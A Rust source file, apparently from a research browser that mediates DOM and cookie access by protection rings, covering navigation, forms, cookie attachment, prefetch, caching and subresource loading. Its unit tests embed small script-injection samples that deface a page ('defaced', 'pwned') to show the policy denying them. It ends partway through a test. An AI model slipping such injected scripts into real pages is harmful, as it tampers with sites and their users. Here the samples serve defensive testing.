    /// Fails when the element does not exist, has no `href`, or the target host is
    /// unreachable.
    pub fn click_link(&mut self, page: PageId, element_id: &str) -> Result<PageId, BrowserError> {
        let (target, principal) = {
            let page = self.page(page);
            let node = page
                .document
                .get_element_by_id(element_id)
                .ok_or_else(|| BrowserError::NoSuchElement(element_id.to_string()))?;
            let href = page
                .document
                .attribute(node, "href")
                .ok_or_else(|| BrowserError::NoSuchElement(format!("{element_id}[href]")))?;
            let target = page.url.join(href)?;
            let principal = page
                .contexts
                .request_issuer_principal(node, &format!("anchor #{element_id}"));
            (target, principal)
        };
        self.load_page(target, Method::Get, String::new(), principal)
    }

    /// Submits a form in a loaded page, optionally overriding/adding fields. The form
    /// element is the HTTP-request-issuing principal.
    ///
    /// # Errors
    ///
    /// Fails when the form does not exist or the target host is unreachable.
    pub fn submit_form(
        &mut self,
        page: PageId,
        form_id: &str,
        overrides: &[(&str, &str)],
    ) -> Result<PageId, BrowserError> {
        let (target, method, body, principal) = {
            let page = self.page(page);
            let form = page
                .document
                .get_element_by_id(form_id)
                .ok_or_else(|| BrowserError::NoSuchElement(form_id.to_string()))?;
            let action = page.document.attribute(form, "action").unwrap_or("");
            let target = page.url.join(action)?;
            let method = page
                .document
                .attribute(form, "method")
                .unwrap_or("post")
                .parse::<Method>()
                .unwrap_or(Method::Post);

            // Collect input/textarea fields inside the form.
            let mut fields: Vec<(String, String)> = Vec::new();
            for node in page.document.descendants(form) {
                let Some(tag) = page.document.tag_name(node) else {
                    continue;
                };
                if tag != "input" && tag != "textarea" && tag != "select" {
                    continue;
                }
                let Some(name) = page.document.attribute(node, "name") else {
                    continue;
                };
                let value = if tag == "textarea" {
                    page.document.text_content(node)
                } else {
                    page.document
                        .attribute(node, "value")
                        .unwrap_or("")
                        .to_string()
                };
                fields.push((name.to_string(), value));
            }
            for (name, value) in overrides {
                match fields.iter_mut().find(|(n, _)| n == name) {
                    Some(entry) => entry.1 = (*value).to_string(),
                    None => fields.push(((*name).to_string(), (*value).to_string())),
                }
            }
            let body = fields
                .iter()
                .map(|(k, v)| {
                    format!(
                        "{}={}",
                        escudo_net::url::percent_encode(k),
                        escudo_net::url::percent_encode(v)
                    )
                })
                .collect::<Vec<_>>()
                .join("&");
            let principal = page
                .contexts
                .request_issuer_principal(form, &format!("form #{form_id}"));
            (target, method, body, principal)
        };
        self.load_page(target, method, body, principal)
    }

    fn load_page(
        &mut self,
        url: Url,
        method: Method,
        body: String,
        principal: PrincipalContext,
    ) -> Result<PageId, BrowserError> {
        let prefetch_hits_before = self.prefetch_hits;
        let mut response = self.fetch(url.clone(), method, body, &principal)?;
        let mut final_url = url;
        // Follow a small number of redirects (form POST → see-other → GET).
        let mut redirects = 0;
        while response.status.is_redirect() && redirects < 5 {
            let Some(location) = response.headers.get("Location").map(str::to_string) else {
                break;
            };
            final_url = final_url.join(&location)?;
            let browser_principal = PrincipalContext::browser(final_url.origin());
            response = self.fetch(
                final_url.clone(),
                Method::Get,
                String::new(),
                &browser_principal,
            )?;
            redirects += 1;
        }

        // Build the page. The mode is read once here — the same plan-boundary
        // snapshot the mediation batches below use — so a tenant hot reload
        // mid-navigation cannot split this page across policy modes.
        let options = LoadOptions {
            mode: self.erm.mode(),
            viewport_width: self.viewport_width,
        };
        let mut page = PageLoader::load(&final_url, &response, &options);

        // Remember the cookie policies this application declared, and make previously
        // remembered policies for the same origin available to this page.
        for policy in page.contexts.cookie_policies().to_vec() {
            self.remember_cookie_policy(final_url.host(), policy);
        }
        let host = final_url.host().to_string();
        for (policy_host, policy) in &self.cookie_policies {
            if policy_host.eq_ignore_ascii_case(&host)
                && page.contexts.cookie_policy(&policy.name).is_none()
            {
                page.contexts.add_cookie_policy(policy.clone());
            }
        }

        // Browser state: history and visited links (mandatorily ring 0).
        self.history.push(final_url.clone());
        self.visited.insert(final_url.to_string());

        // Execute the page's scripts in document order.
        self.execute_scripts(&mut page);

        // Start speculating on the *next* navigation before fanning out this
        // page's subresources: the speculative batch drains on the pool's
        // background lane while the navigation/bulk fan-out below is in flight,
        // so prediction overlaps the current page's own fetch work.
        let speculation = self.begin_prefetch(&page);

        // Issue subresource requests (critical resources and images). These are
        // HTTP-request-issuing principals.
        self.load_subresources(&mut page);

        // Harvest the speculative responses into the fabric's prefetch cache.
        let (issued, _) = self.finish_prefetch(speculation);
        page.stats.prefetch_issued = issued;
        page.stats.prefetch_hit = self.prefetch_hits > prefetch_hits_before;

        // Re-render to account for script-driven DOM changes.
        if !page.scripts.is_empty() {
            let start = Instant::now();
            let renderer = Renderer::new(self.viewport_width);
            let (_, stats) = renderer.layout(&page.document);
            page.render_stats = stats;
            page.stats.render_ns += start.elapsed().as_nanos();
        }

        page.stats.policy_checks = self.erm.checks();
        page.stats.policy_denials = self.erm.denials();
        // Lock-free counter read: a full `stats()` snapshot sweeps every cache
        // shard, which would serialize concurrent sessions once per page load.
        page.stats.policy_cache_hits = self.erm.engine().cache_hits();

        self.pages.push(Some(page));
        Ok(PageId(self.pages.len() - 1))
    }

    /// Issues one HTTP request with policy-mediated cookie attachment and stores any
    /// cookies (and cookie policies) the response carries.
    fn fetch(
        &mut self,
        url: Url,
        method: Method,
        body: String,
        principal: &PrincipalContext,
    ) -> Result<Arc<Response>, BrowserError> {
        let mut request = Request::new(method, url.clone());
        if !body.is_empty() {
            request.body = body;
            request
                .headers
                .set("Content-Type", "application/x-www-form-urlencoded");
        }
        self.attach_cookies(&mut request, principal, None);
        let cacheable = method == Method::Get && request.body.is_empty();
        let cookie_header = request.headers.get("Cookie").unwrap_or("").to_string();
        let (response, from_cache) = match self.take_cached_response(&request) {
            Some(response) => (response, true),
            None => {
                let fetched = self
                    .network
                    .fabric()
                    .dispatch_with_policy(request, &self.fetch_policy)?;
                let response = Arc::new(fetched);
                if self.response_cache_enabled
                    && cacheable
                    && response.status.is_success()
                    && !response.headers.cache_no_store()
                    && response.headers.get("Set-Cookie").is_none()
                    && response.headers.cache_max_age().is_some()
                {
                    self.network.fabric().cache_store(
                        Method::Get,
                        &url,
                        &cookie_header,
                        (*response).clone(),
                        false,
                    );
                }
                (response, false)
            }
        };
        // `Set-Cookie` is applied only when the response came off the wire: the
        // cache refuses Set-Cookie-bearing responses outright, and a hit must
        // never be able to write another session's credential into this jar.
        if !from_cache {
            for directive in response.set_cookies() {
                self.jar.store(&url, &directive);
            }
        }
        for policy in response.cookie_policies() {
            self.remember_cookie_policy(url.host(), policy);
        }
        Ok(response)
    }

    /// Serves `request` from the fabric's response cache if this session opted
    /// into speculation or caching, the request is a cacheable fetch (`GET`, no
    /// body), and the cached entry's mediation plan — the exact `Cookie` header
    /// the reference monitor admitted — matches this request's. Each opt-in
    /// unlocks exactly its own layer: speculation serves one-shot prefetch
    /// entries, the response cache serves persistent `max-age` entries, and an
    /// entry in a layer this session did not opt into is an ordinary miss. On a
    /// hit the fetch is *not* re-dispatched; instead the hit is recorded in the
    /// request log under a freshly reserved sequence number, byte-identical to
    /// what a live dispatch would have logged, so cache-on and cache-off runs
    /// stay log-equivalent — and the returned `Arc` is a refcount bump, not a
    /// body clone. A stale plan or expired TTL discards the entry and falls
    /// back to a live fetch (`None`).
    fn take_cached_response(&mut self, request: &Request) -> Option<Arc<Response>> {
        let layers = CacheLayers {
            one_shot: self.prefetch_enabled,
            persistent: self.response_cache_enabled,
        };
        if (!layers.one_shot && !layers.persistent)
            || request.method != Method::Get
            || !request.body.is_empty()
        {
            return None;
        }
        let fabric = Arc::clone(self.network.fabric());
        let cookie_header = request.headers.get("Cookie").unwrap_or("").to_string();
        let hit = fabric.cache_lookup(Method::Get, &request.url, &cookie_header, layers)?;
        let sequence = fabric.reserve_sequences(1);
        fabric.record_cache_hit(sequence, request, hit.response.status.0);
        if hit.one_shot {
            self.prefetch_hits += 1;
        } else {
            self.cache_hits += 1;
        }
        Some(hit.response)
    }

    fn remember_cookie_policy(&mut self, host: &str, policy: CookiePolicy) {
        if let Some(entry) = self
            .cookie_policies
            .iter_mut()
            .find(|(h, p)| h.eq_ignore_ascii_case(host) && p.name == policy.name)
        {
            entry.1 = policy;
        } else {
            self.cookie_policies.push((host.to_string(), policy));
        }
    }

    /// Cookie attachment — the `use` operation. `page_contexts` supplies per-cookie
    /// ring assignments when the request originates from a loaded page; otherwise the
    /// browser-wide remembered policies are used. Mediation itself is the shared
    /// [`Erm::mediate_cookies`] batch path.
    fn attach_cookies(
        &mut self,
        request: &mut Request,
        principal: &PrincipalContext,
        page_contexts: Option<&SecurityContextTable>,
    ) {
        let cookie_policies = &self.cookie_policies;
        let attached = self.erm.mediate_jar(
            &self.jar,
            &request.url,
            Operation::Use,
            principal,
            |name, origin| match page_contexts {
                Some(contexts) => contexts.cookie_object(name, origin),
                None => cookie_object_from_store(cookie_policies, name, origin),
            },
        );
        if !attached.is_empty() {
            request.headers.set("Cookie", attached.join("; "));
        }
    }
}

/// The security context of a cookie when no page is loaded: the browser-wide
/// remembered policies, falling back to the ring-0 default.
fn cookie_object_from_store(
    cookie_policies: &[(String, CookiePolicy)],
    name: &str,
    cookie_origin: escudo_core::Origin,
) -> escudo_core::ObjectContext {
    let policy = cookie_policies.iter().find(|(host, policy)| {
        host.eq_ignore_ascii_case(cookie_origin.host()) && policy.applies_to(name)
    });
    match policy {
        Some((_, policy)) => escudo_core::ObjectContext {
            kind: escudo_core::ObjectKind::Cookie,
            origin: cookie_origin,
            ring: policy.ring,
            acl: policy.acl,
            label: format!("cookie {name}"),
        },
        None => escudo_core::ObjectContext {
            kind: escudo_core::ObjectKind::Cookie,
            origin: cookie_origin,
            ring: escudo_core::Ring::INNERMOST,
            acl: escudo_core::Acl::permissive(),
            label: format!("cookie {name}"),
        },
    }
}

impl Browser {
    // ------------------------------------------------------------- scripts & events

    fn execute_scripts(&mut self, page: &mut Page) {
        let scripts = page.scripts.clone();
        for unit in scripts {
            let start = Instant::now();
            let principal = page
                .contexts
                .script_principal(unit.node, &format!("script in {}", unit.ring));
            let mode = self.erm.mode();
            let outcome = {
                let mut host = BrowserHost::new(
                    mode,
                    &mut self.erm,
                    &mut page.document,
                    &mut page.contexts,
                    &self.jar,
                    &self.network,
                    self.history.len(),
                    page.url.clone(),
                    principal,
                    self.fetch_policy,
                    self.response_cache_enabled,
                );
                let mut interpreter = Interpreter::new(&mut host);
                let result = interpreter.run(&unit.source);
                match result {
                    Ok(value) => ScriptOutcome {
                        node: unit.node,
                        ring: unit.ring,
                        result: Ok(value.to_string()),
                        denied: false,
                    },
                    Err(error) => ScriptOutcome {
                        node: unit.node,
                        ring: unit.ring,
                        denied: error.is_access_denied(),
                        result: Err(error.to_string()),
                    },
                }
            };
            page.stats.script_ns += start.elapsed().as_nanos();
            page.script_outcomes.push(outcome);
        }
    }

    /// Delivers a UI event to the element with the given `id`. Delivery is an implicit
    /// `use` of the element; if the element carries an inline handler (`onclick`, …)
    /// the handler runs as a script principal in the element's ring.
    ///
    /// # Errors
    ///
    /// Fails when the page or element does not exist.
    pub fn fire_event(
        &mut self,
        page_id: PageId,
        element_id: &str,
        event: EventType,
    ) -> Result<Option<ScriptOutcome>, BrowserError> {
        let mut page = self.pages[page_id.0]
            .take()
            .ok_or(BrowserError::NoSuchPage(page_id.0))?;
        let result = self.fire_event_inner(&mut page, element_id, event);
        self.pages[page_id.0] = Some(page);
        result
    }

    fn fire_event_inner(
        &mut self,
        page: &mut Page,
        element_id: &str,
        event: EventType,
    ) -> Result<Option<ScriptOutcome>, BrowserError> {
        let node = page
            .document
            .get_element_by_id(element_id)
            .ok_or_else(|| BrowserError::NoSuchElement(element_id.to_string()))?;

        // Event delivery is a `use` of the target element, performed here on behalf of
        // the user (browser chrome), so it is always permitted — but it is still a
        // mediated operation and shows up in the audit trail and the timing numbers.
        let chrome = PrincipalContext::browser(page.origin.clone());
        let object = page.contexts.dom_object(node, &format!("#{element_id}"));
        let decision = self.erm.check(&chrome, &object, Operation::Use);
        debug_assert!(decision.is_allowed());

        let Some(source) = page
            .document
            .attribute(node, &event.handler_attribute())
            .map(str::to_string)
        else {
            return Ok(None);
        };

        let start = Instant::now();
        let principal = PrincipalContext {
            kind: PrincipalKind::EventHandler,
            origin: page.origin.clone(),
            ring: page.contexts.node_label(node).ring,
            label: format!("on{event} handler of #{element_id}"),
        };
        let ring = principal.ring;
        let mode = self.erm.mode();
        let outcome = {
            let mut host = BrowserHost::new(
                mode,
                &mut self.erm,
                &mut page.document,
                &mut page.contexts,
                &self.jar,
                &self.network,
                self.history.len(),
                page.url.clone(),
                principal,
                self.fetch_policy,
                self.response_cache_enabled,
            );
            let mut interpreter = Interpreter::new(&mut host);
            match interpreter.run(&source) {
                Ok(value) => ScriptOutcome {
                    node,
                    ring,
                    result: Ok(value.to_string()),
                    denied: false,
                },
                Err(error) => ScriptOutcome {
                    node,
                    ring,
                    denied: error.is_access_denied(),
                    result: Err(error.to_string()),
                },
            }
        };
        page.stats.script_ns += start.elapsed().as_nanos();
        page.script_outcomes.push(outcome.clone());
        Ok(Some(outcome))
    }

    // ------------------------------------------------------------- prefetch

    /// Speculatively fetches `url` on the fabric's background lane and caches
    /// the response for a later navigation of this session (or any session
    /// whose mediated cookie attachment for `url` is identical). Blocks until
    /// the speculative fetch completes; the in-page predictor
    /// ([`Browser::load_page`]) overlaps the same work with the subresource
    /// fan-out instead.
    ///
    /// Returns `true` when a response was fetched and cached. Returns `false`
    /// when speculation is disabled ([`Browser::set_prefetch_enabled`]), the
    /// URL is invalid or unregistered, or the fetch failed.
    pub fn prefetch(&mut self, url: &str) -> bool {
        if !self.prefetch_enabled {
            return false;
        }
        let Ok(url) = Url::parse(url) else {
            return false;
        };
        if !self.network.knows(&url) {
            return false;
        }
        let speculation = self.submit_speculative(vec![url]);
        let (_, stored) = self.finish_prefetch(speculation);
        stored > 0
    }

    /// The likely next navigations of this page, most confident first: markup
    /// `rel=prefetch` hints, then anchors whose target this session has already
    /// visited (the visited-link predictor). Deduplicated, restricted to
    /// registered origins, excluding the page itself, truncated to
    /// [`PREFETCH_MAX_CANDIDATES`].
    fn prefetch_candidates(&self, page: &Page) -> Vec<Url> {
        let current = page.url.to_string();
        let mut seen: Vec<String> = Vec::new();
        let mut candidates: Vec<Url> = Vec::new();
        let hinted = page.prefetch_hints.iter().cloned().map(|href| (href, true));
        let anchors = page
            .document
            .elements_by_tag_name("a")
            .into_iter()
            .filter_map(|node| page.document.attribute(node, "href").map(str::to_string))
            .map(|href| (href, false));
        for (href, hinted) in hinted.chain(anchors) {
            let Ok(target) = page.url.join(&href) else {
                continue;
            };
            let key = target.to_string();
            if !hinted && !self.visited.contains(&key) {
                continue;
            }
            if key == current || seen.contains(&key) || !self.network.knows(&target) {
                continue;
            }
            seen.push(key);
            candidates.push(target);
            if candidates.len() == PREFETCH_MAX_CANDIDATES {
                break;
            }
        }
        candidates
    }

    /// Plans and submits this page's speculative fetches (when enabled),
    /// returning the in-flight background batch and its cache keys.
    fn begin_prefetch(&mut self, page: &Page) -> Option<(BackgroundBatch, Vec<(Url, String)>)> {
        if !self.prefetch_enabled {
            return None;
        }
        let candidates = self.prefetch_candidates(page);
        self.submit_speculative(candidates)
    }

    /// Mediates and submits one speculative request per candidate to the
    /// fabric's background lane. Each request is built exactly as the future
    /// navigation would build it — browser principal, cookie attachment through
    /// the same reference-monitor path — so speculation is itself fully
    /// mediated, and the attached `Cookie` header becomes the cache key the
    /// real navigation's plan is later validated against.
    fn submit_speculative(
        &mut self,
        candidates: Vec<Url>,
    ) -> Option<(BackgroundBatch, Vec<(Url, String)>)> {
        if candidates.is_empty() {
            return None;
        }
        let mut requests = Vec::with_capacity(candidates.len());
        let mut keys = Vec::with_capacity(candidates.len());
        for url in candidates {
            let principal = PrincipalContext::browser(url.origin());
            let mut request = Request::new(Method::Get, url.clone());
            self.attach_cookies(&mut request, &principal, None);
            let cookie_header = request.headers.get("Cookie").unwrap_or("").to_string();
            keys.push((url, cookie_header));
            requests.push(request);
        }
        let parallelism = keys.len().min(2);
        let fabric = Arc::clone(self.network.fabric());
        // Speculation spends the session's own retry budget: a transiently
        // faulted prefetch may still land in the cache. The batch stays on the
        // background lane and stays unlogged either way, so retrying here can
        // never perturb the request-log oracle.
        let batch =
            fabric.submit_background_batch_with_policy(requests, parallelism, &self.fetch_policy);
        Some((batch, keys))
    }

    /// Joins an in-flight speculative batch and stores the successful responses
    /// in the fabric's prefetch cache. Returns `(issued, stored)` counts.
    ///
    /// `Set-Cookie` directives on a speculative response are *never* applied —
    /// speculation must not mutate session state, and the shared cache refuses
    /// Set-Cookie-bearing responses outright (per-recipient state must not be
    /// shared across sessions), so such a speculation is simply dropped and the
    /// real navigation pays the wire cost.
    fn finish_prefetch(
        &mut self,
        speculation: Option<(BackgroundBatch, Vec<(Url, String)>)>,
    ) -> (u64, u64) {
        let Some((batch, keys)) = speculation else {
            return (0, 0);
        };
        let issued = keys.len() as u64;
        let results = batch.join();
        let fabric = Arc::clone(self.network.fabric());
        let mut stored = 0;
        for ((url, cookie_header), result) in keys.into_iter().zip(results) {
            if let Ok(response) = result {
                if fabric.store_prefetched(&url, &cookie_header, response) {
                    stored += 1;
                }
            }
        }
        (issued, stored)
    }

    // ------------------------------------------------------------- subresources

    /// Issues the HTTP requests for the page's external subresources. The
    /// render-critical ones (`link rel=stylesheet`, `script src`) ride the
    /// fetch pool's **navigation lane**, ahead of any session's queued bulk
    /// traffic; `img` fetches ride the **bulk lane**. Each element is an
    /// HTTP-request-issuing principal; cookie attachment for its request is
    /// mediated exactly like any other `use` of the cookies (`img` is the
    /// CSRF-by-image vector).
    ///
    /// The loader is a two-phase pipeline, keeping mediation provably independent
    /// of the transport:
    ///
    /// 1. **Plan** — one walk over the document collects every fetchable
    ///    subresource (critical resources in document order, then images in
    ///    document order), and one [`Erm::mediate_jar_many`] batch fixes every
    ///    request's cookie attachment (one jar walk per distinct URL, one engine
    ///    batch per page). No fetch has been dispatched yet, so no completion
    ///    order — and no scheduling decision — can influence a decision.
    /// 2. **Fan out** — the already-mediated critical requests are submitted to
    ///    the fabric's persistent worker pool at [`Priority::Navigation`], then
    ///    the image requests at [`Priority::Bulk`] (the navigating thread
    ///    drains each batch alongside the ticketed pool workers, so it is
    ///    still worker 0), each under a sequence number pre-reserved in plan
    ///    order. Outcomes come back in plan index order, so
    ///    [`Page::subresources`] and the sequence-sorted request log both read
    ///    in plan order regardless of which fetch finished first.
    fn load_subresources(&mut self, page: &mut Page) {
        use crate::page::SubresourceKind;

        // ------------------------------------------------------------- phase 1
        let critical = escudo_html::critical_resources(&page.document);
        let images: Vec<(escudo_dom::NodeId, String)> = page
            .document
            .elements_by_tag_name("img")
            .into_iter()
            .filter_map(|node| {
                page.document
                    .attribute(node, "src")
                    .map(|src| (node, src.to_string()))
            })
            .collect();
        let mut planned: Vec<(escudo_dom::NodeId, Url, PrincipalContext, SubresourceKind)> =
            Vec::new();
        for (kind, (node, src)) in critical
            .into_iter()
            .map(|entry| (SubresourceKind::Critical, entry))
            .chain(
                images
                    .into_iter()
                    .map(|entry| (SubresourceKind::Image, entry)),
            )
        {
            let Ok(target) = page.url.join(&src) else {
                continue;
            };
            if !self.network.knows(&target) {
                continue;
            }
            let tag = match kind {
                SubresourceKind::Critical => page.document.tag_name(node).unwrap_or("link"),
                SubresourceKind::Image => "img",
            };
            let principal = page
                .contexts
                .request_issuer_principal(node, &format!("{tag} src={src}"));
            planned.push((node, target, principal, kind));
        }
        if planned.is_empty() {
            return;
        }

        let denials_before = self.erm.denials();
        let mediation_inputs: Vec<(&Url, &PrincipalContext)> = planned
            .iter()
            .map(|(_, url, principal, _)| (url, principal))
            .collect();
        let attachments = self.erm.mediate_jar_many(
            &self.jar,
            &mediation_inputs,
            Operation::Use,
            |name, origin| page.contexts.cookie_object(name, origin),
        );
        page.stats.subresource_denials = self.erm.denials() - denials_before;

        let requests: Vec<Request> = planned
            .iter()
            .zip(&attachments)
            .map(|((_, url, _, _), attached)| {
                let mut request = Request::new(Method::Get, url.clone());
                if !attached.is_empty() {
                    request.headers.set("Cookie", attached.join("; "));
                }
                request
            })
            .collect();

        // ------------------------------------------------------------- phase 2
        let fabric = Arc::clone(self.network.fabric());
        let count = requests.len();
        let critical_count = planned
            .iter()
            .filter(|(_, _, _, kind)| *kind == SubresourceKind::Critical)
            .count();
        let base = fabric.reserve_sequences(count as u64);
        let start = Instant::now();
        let policy = self.fetch_policy;

        // Per-slot outcomes in plan order.
        let mut outcomes: Vec<Option<SlotOutcome>> = vec![None; count];

        // Cache consult + single-flight planning (cache-enabled sessions only;
        // a default session takes the exact pre-cache dispatch path). A fresh
        // mediation-matching cache entry serves its slot outright, logged under
        // the slot's own pre-reserved sequence; among the remaining misses,
        // later slots repeating an earlier slot's (URL, mediated `Cookie`
        // header) ride that slot's single dispatch instead of their own.
        let mut primary_of: Vec<Option<usize>> = vec![None; count];
        if self.response_cache_enabled {
            let layers = CacheLayers {
                one_shot: self.prefetch_enabled,
                persistent: true,
            };
            let mut first_slot: HashMap<(String, String), usize> = HashMap::new();
            for (i, request) in requests.iter().enumerate() {
                let cookie_header = request.headers.get("Cookie").unwrap_or("").to_string();
                if let Some(hit) =
                    fabric.cache_lookup(Method::Get, &request.url, &cookie_header, layers)
                {
                    fabric.record_cache_hit(base + i as u64, request, hit.response.status.0);
                    if hit.one_shot {
                        self.prefetch_hits += 1;
                    } else {
                        self.cache_hits += 1;
                    }
                    outcomes[i] = Some((Some(hit.response.status.0), None, 0));
                    continue;
                }
                match first_slot.entry((request.url.to_string(), cookie_header)) {
                    std::collections::hash_map::Entry::Occupied(entry) => {
                        primary_of[i] = Some(*entry.get());
                    }
                    std::collections::hash_map::Entry::Vacant(entry) => {
                        entry.insert(i);
                    }
                }
            }
        }

        // Dispatch the unserved primary slots, critical lane first. Entries
        // carry their *global* plan offset, so each fetch logs under
        // `base + slot` no matter how the lanes were thinned.
        let mut slot_requests: Vec<Option<Request>> = requests.into_iter().map(Some).collect();
        for (range, priority) in [
            (0..critical_count, Priority::Navigation),
            (critical_count..count, Priority::Bulk),
        ] {
            let mut entries: Vec<(usize, Request)> = Vec::new();
            for i in range {
                if outcomes[i].is_none() && primary_of[i].is_none() {
                    entries.push((
                        i,
                        slot_requests[i].take().expect("primary slot has request"),
                    ));
                }
            }
            if entries.is_empty() {
                continue;
            }
            // Adaptive cutover per lane: fan out only when the estimated total
            // fetch cost can pay for the pool submission; otherwise the plan
            // dispatches inline (the sequential fast path — identical
            // semantics, no queue round-trip).
            let estimated_ns: u64 = entries
                .iter()
                .map(|(_, request)| fabric.estimated_service_ns(&request.url.origin()))
                .fold(0, u64::saturating_add);
            let workers = if estimated_ns < SUBRESOURCE_FANOUT_THRESHOLD_NS {
                1
            } else {
                self.subresource_workers.min(entries.len())
            };
            let store_keys: Vec<(Url, String)> = if self.response_cache_enabled {
                entries
                    .iter()
                    .map(|(_, request)| {
                        let cookie = request.headers.get("Cookie").unwrap_or("").to_string();
                        (request.url.clone(), cookie)
                    })
                    .collect()
            } else {
                Vec::new()
            };
            let slots: Vec<usize> = entries.iter().map(|(slot, _)| *slot).collect();
            let results = fabric
                .dispatch_batch_offsets_with_policy(base, entries, workers, priority, &policy);
            for (j, (result, retries)) in results.into_iter().enumerate() {
                if self.response_cache_enabled {
                    if let Ok(response) = &result {
                        if response.status.is_success()
                            && !response.headers.cache_no_store()
                            && response.headers.get("Set-Cookie").is_none()
                            && response.headers.cache_max_age().is_some()
                        {
                            let (url, cookie_header) = &store_keys[j];
                            fabric.cache_store(
                                Method::Get,
                                url,
                                cookie_header,
                                response.clone(),
                                false,
                            );
                        }
                    }
                }
                outcomes[slots[j]] = Some(match result {
                    Ok(response) => (Some(response.status.0), None, retries),
                    Err(error) => (None, Some(error.to_string()), retries),
                });
            }
        }

        // Fan each coalesced duplicate out from its primary's single dispatch:
        // the hit is logged under the duplicate's own pre-reserved sequence, so
        // the sequence-sorted log is byte-identical to one live dispatch per
        // slot. A failed primary can't stand in for its duplicates — those
        // fall back to a live dispatch under the session's own `FetchPolicy`
        // (full retry budget and breaker admission, exactly as a non-coalesced
        // slot), so a faulted cache-on run degrades no differently than the
        // cache-off oracle; the log sorts by sequence, so a late dispatch
        // still reads in plan order.
        for i in 0..count {
            let Some(primary) = primary_of[i] else {
                continue;
            };
            let request = slot_requests[i].take().expect("duplicate slot has request");
            match outcomes[primary] {
                Some((Some(status), None, _)) => {
                    fabric.record_cache_hit(base + i as u64, &request, status);
                    fabric.note_cache_coalesced(1);
                    outcomes[i] = Some((Some(status), None, 0));
                }
                _ => {
                    let store_key = (
                        request.url.clone(),
                        request.headers.get("Cookie").unwrap_or("").to_string(),
                    );
                    let (result, retries) =
                        fabric.dispatch_sequenced_with_policy(base + i as u64, request, &policy);
                    if self.response_cache_enabled {
                        if let Ok(response) = &result {
                            if response.status.is_success()
                                && !response.headers.cache_no_store()
                                && response.headers.get("Set-Cookie").is_none()
                                && response.headers.cache_max_age().is_some()
                            {
                                fabric.cache_store(
                                    Method::Get,
                                    &store_key.0,
                                    &store_key.1,
                                    response.clone(),
                                    false,
                                );
                            }
                        }
                    }
                    outcomes[i] = Some(match result {
                        Ok(response) => (Some(response.status.0), None, retries),
                        Err(error) => (None, Some(error.to_string()), retries),
                    });
                }
            }
        }

        page.stats.subresource_fetch_ns = start.elapsed().as_nanos();
        page.stats.subresource_requests = count as u64;

        // Record outcomes in plan order, not completion order. A slot whose
        // retries ran dry degrades into `error` — the page load itself never
        // fails on a subresource.
        for (((node, url, _, kind), attached), outcome) in
            planned.into_iter().zip(attachments).zip(outcomes)
        {
            let (status, error, retries) = outcome.expect("every plan slot resolved");
            page.subresources.push(SubresourceOutcome {
                node,
                kind,
                url,
                attached_cookies: attached
                    .iter()
                    .map(|pair| {
                        pair.split_once('=')
                            .map_or(pair.as_str(), |(n, _)| n)
                            .to_string()
                    })
                    .collect(),
                status,
                error,
                retries,
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use escudo_net::{Response, Server};

    struct Static(String);
    impl Server for Static {
        fn handle(&mut self, _req: &Request) -> Response {
            Response::ok_html(self.0.clone())
        }
    }

    fn browser_with(mode: PolicyMode, html: &str) -> Browser {
        let mut browser = Browser::new(mode);
        browser
            .network_mut()
            .register("http://app.example", Static(html.to_string()));
        browser
    }

    #[test]
    fn navigation_loads_a_page_and_updates_history() {
        let mut browser = browser_with(
            PolicyMode::Escudo,
            "<html><body ring=1><p id=hello>hi</p></body></html>",
        );
        let page = browser.navigate("http://app.example/index.php").unwrap();
        assert_eq!(browser.page(page).text_of("hello").as_deref(), Some("hi"));
        assert_eq!(browser.history().len(), 1);
        assert!(browser.is_visited("http://app.example/index.php"));
        assert!(!browser.is_visited("http://app.example/other.php"));
    }

    #[test]
    fn low_ring_script_cannot_modify_high_ring_region() {
        let html = r#"<html><body ring=1 r=1 w=1 x=1>
            <div ring=1 r=1 w=1 x=1 id=post>Original</div>
            <div ring=3 r=3 w=3 x=3 id=comment>
              <script>document.getElementById('post').innerHTML = 'defaced';</script>
            </div>
        </body></html>"#;
        let mut browser = browser_with(PolicyMode::Escudo, html);
        let page = browser.navigate("http://app.example/").unwrap();
        assert!(browser.page(page).any_script_denied());
        assert_eq!(
            browser.page(page).text_of("post").as_deref(),
            Some("Original")
        );

        // Under the same-origin baseline the same attack succeeds.
        let mut sop = browser_with(PolicyMode::SameOriginOnly, html);
        let page = sop.navigate("http://app.example/").unwrap();
        assert!(!sop.page(page).any_script_denied());
        assert_eq!(sop.page(page).text_of("post").as_deref(), Some("defaced"));
    }

    #[test]
    fn high_ring_script_may_modify_lower_ring_regions() {
        let html = r#"<html><body ring=1 r=1 w=1 x=1>
            <div ring=3 r=2 w=2 x=2 id=message>old</div>
            <div ring=1 r=1 w=1 x=1>
              <script>document.getElementById('message').innerHTML = 'moderated';</script>
            </div>
        </body></html>"#;
        let mut browser = browser_with(PolicyMode::Escudo, html);
        let page = browser.navigate("http://app.example/").unwrap();
        assert!(browser.page(page).all_scripts_succeeded());
        assert_eq!(
            browser.page(page).text_of("message").as_deref(),
            Some("moderated")
        );
    }

    #[test]
    fn legacy_pages_behave_like_sop_under_escudo() {
        let html = r#"<html><body>
            <div id=target>old</div>
            <script>document.getElementById('target').innerHTML = 'changed';</script>
        </body></html>"#;
        let mut browser = browser_with(PolicyMode::Escudo, html);
        let page = browser.navigate("http://app.example/").unwrap();
        assert!(browser.page(page).legacy);
        assert!(browser.page(page).all_scripts_succeeded());
        assert_eq!(
            browser.page(page).text_of("target").as_deref(),
            Some("changed")
        );
    }

    #[test]
    fn event_handlers_run_in_the_elements_ring() {
        let html = r#"<html><body ring=1 r=1 w=1 x=1>
            <div id=status>idle</div>
            <button id=good onclick="document.getElementById('status').innerHTML = 'clicked';">ok</button>
            <div ring=3 r=3 w=3 x=3>
              <button id=evil onclick="document.getElementById('status').innerHTML = 'pwned';">x</button>
            </div>
        </body></html>"#;
        let mut browser = browser_with(PolicyMode::Escudo, html);
        let page = browser.navigate("http://app.example/").unwrap();

        let ok = browser
            .fire_event(page, "good", EventType::Click)
            .unwrap()
            .unwrap();
        assert!(ok.succeeded());
        assert_eq!(
            browser.page(page).text_of("status").as_deref(),
            Some("clicked")
        );

        let evil = browser
            .fire_event(page, "evil", EventType::Click)
            .unwrap()
            .unwrap();
        assert!(evil.was_denied());
        assert_eq!(
            browser.page(page).text_of("status").as_deref(),
            Some("clicked")
        );

        // Firing an event on an element without a handler is a no-op.
        assert!(browser
            .fire_event(page, "status", EventType::Click)
            .unwrap()
            .is_none());
    }

    #[test]
    fn setting_configuration_attributes_from_scripts_is_denied() {
        let html = r#"<html><body ring=1 r=1 w=1 x=1>
